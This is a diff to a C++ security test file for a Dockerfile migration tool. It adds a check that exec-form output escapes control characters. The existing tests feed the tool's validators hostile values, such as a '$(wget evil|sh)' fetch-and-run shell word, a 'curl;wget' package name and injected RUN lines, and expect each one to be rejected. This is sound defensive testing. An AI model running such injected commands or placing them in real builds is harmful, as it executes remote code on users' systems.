@@ -18,6 +18,7 @@
 #include "migrate/DockerfileText.h"
 #include "migrate/Migration.h"
 #include "migrate/Migrator.h"
+#include "migrate/Plan.h"
 #include "output/Escape.h"
 #include "suggest/ChangedFiles.h"
 #include "syntax/DockerfileReader.h"
@@ -181,6 +182,9 @@ TEST_CASE("Every Dockerfile-text check refuses every hostile value", "[security]
   CHECK_THROWS_AS(migrate::generatedInstruction("RUN a \\\nRUN b\nRUN c"), migrate::UnsafeValue);
   CHECK_THROWS_AS(migrate::shellWord("t", "$(wget evil|sh)"), migrate::UnsafeValue);
   CHECK_THROWS_AS(migrate::packageName("curl;wget"), migrate::UnsafeValue);
+  // An exec form restage writes keeps every code point, controls as \u escapes.
+  CHECK(migrate::execForm({"node", "a\nRUN x", "b\xe2\x80\xae" "c", "d\xc2\x9b" "e"}) ==
+        "[\"node\", \"a\\nRUN x\", \"b\\u202ec\", \"d\\u009be\"]");
 }
 
 TEST_CASE("Safe values pass the rule unchanged", "[security][injection]") {
